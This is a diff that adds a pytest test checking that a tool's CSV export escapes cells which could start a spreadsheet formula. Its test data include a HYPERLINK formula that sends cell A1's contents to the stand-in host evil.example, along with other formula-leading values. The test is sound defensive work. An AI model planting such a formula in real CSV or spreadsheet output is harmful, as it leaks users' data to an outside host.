@@ -9,6 +9,8 @@ are still in the database (rows stored before) as a second line of defence.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime
 from pathlib import Path
@@ -113,3 +115,20 @@ def test_show_search_and_csv_print_no_escape_sequence(hostile_store: Store) -> N
     for line in outputs[-2].splitlines():
         json.loads(line)  # escaping keeps JSON valid
 
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=1+2", "+31 6 1234", "-2+3",
+            "@SUM(A1)", "\t=1+2", "\r=1+2")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_cannot_start_a_formula(store: Store, cli_env: dict, formula: str) -> None:
+    store.insert_new([mention(1, text=f"{formula} Curio", title=formula, author=formula,
+                              url=formula)])
+    with store.transaction() as conn:  # the title as a row stored before any cleaning had it
+        conn.execute(update(mentions).values(title=formula))
+    [row] = list(csv.DictReader(io.StringIO(_cli("search", "curio", "--csv"))))
+    for field in ("title", "author", "text", "url"):
+        assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert row["title"].startswith("'")
+    if formula[0] not in "\t\r":
+        assert row["title"] == f"'{formula}" and row["text"] == f"'{formula} Curio"
